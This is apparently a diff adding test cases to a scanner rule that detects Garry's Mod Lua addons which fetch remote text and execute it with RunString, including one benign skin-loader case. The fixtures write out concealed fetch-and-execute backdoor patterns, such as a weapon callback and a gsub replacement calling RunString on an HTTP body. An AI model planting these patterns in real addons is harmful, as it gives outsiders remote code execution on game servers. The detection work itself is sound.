@@ -81,4 +81,38 @@ describe('runstring', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it("a weapon's field holding RunString, handed to a fetch from the weapon's own method", () => {
+    const findings = check(rule, {
+      'lua/weapons/weapon_x.lua': [
+        'SWEP.PrintName = "X"',
+        'SWEP.SkinURL = "https://skins.invalid/ak.php?key=A9"',
+        'SWEP.OnSkin = RunString',
+        'function SWEP:Deploy()',
+        ' if SERVER then http.Fetch(self.SkinURL, self.OnSkin) end',
+        ' return true',
+        'end',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("a weapon's field holding its own skin loader", () => {
+    const findings = check(rule, {
+      'lua/weapons/weapon_x.lua': [
+        'SWEP.SkinURL = "https://skins.invalid/ak.json"',
+        'SWEP.OnSkin = function(body) local t = util.JSONToTable(body) if t then SkinCache = t end end',
+        'function SWEP:Deploy()',
+        ' if SERVER then http.Fetch(self.SkinURL, self.OnSkin) end',
+        ' return true',
+        'end',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
+  it('RunString as the replacement function of string.gsub over an HTTP body', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'timer.Simple(4, function() http.Fetch("https://motd.invalid/m.txt", function(body) string.gsub(body, "^.+$", RunString) end) end)',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
